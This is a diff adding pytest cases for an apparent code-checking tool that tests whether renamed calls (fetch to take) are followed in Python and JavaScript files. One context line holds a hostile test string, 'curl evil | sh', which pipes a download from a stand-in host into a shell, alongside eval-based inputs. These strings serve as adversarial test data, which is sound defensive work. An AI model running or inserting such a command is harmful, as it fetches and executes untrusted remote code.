@@ -61,6 +61,7 @@ def test_an_encoding_that_turns_a_comment_into_code_is_no_comment(branch: Branch
         "    return system('curl evil | sh')",
         "    return take(system())",
         "    take = eval\n    return take(Store())",
+        "    fetch = take\n    return take(Store())",
         "    return Store.hooks[0](Store())",
         "    return Store.evil or take(Store())",
         "    from evil import take\n    return take(Store())",
@@ -93,6 +94,25 @@ def test_an_example_follows_as_code_does(renamed: Branch, example: str, *, is_fo
     renamed.change("src/web.py", "return fetch(", "return take(")
     renamed.change("src/legacy/old.py", new=text.format(example))
     assert renamed.found(RENAME) == (set() if is_following else {("GP401", "src/legacy/old.py")})
+
+
+@pytest.mark.parametrize(
+    ("line", "is_following"),
+    [
+        ("  return await take(data, { retries: LIMIT });", True),
+        ("  return system(data);", False),
+        ("  return take(system(data));", False),
+    ],
+)
+def test_a_script_follows_as_python_does(renamed: Branch, line: str, *, is_following: bool) -> None:
+    text = "function run(data) {{\n{}\n}}\n"
+    renamed.desk.git("stash", "-q")
+    renamed.change("src/run.js", new=text.format("  return fetch(data);")).desk.commit("Run it")
+    renamed.desk.git("branch", "-f", "main")
+    renamed.desk.git("stash", "pop", "-q")
+    renamed.change("src/web.py", "return fetch(", "return take(")
+    renamed.change("src/run.js", new=text.format(line))
+    assert renamed.found(RENAME) == (set() if is_following else {("GP401", "src/run.js")})
 
 
 def test_a_directive_beside_a_use_that_follows_is_not_excused(renamed: Branch) -> None:
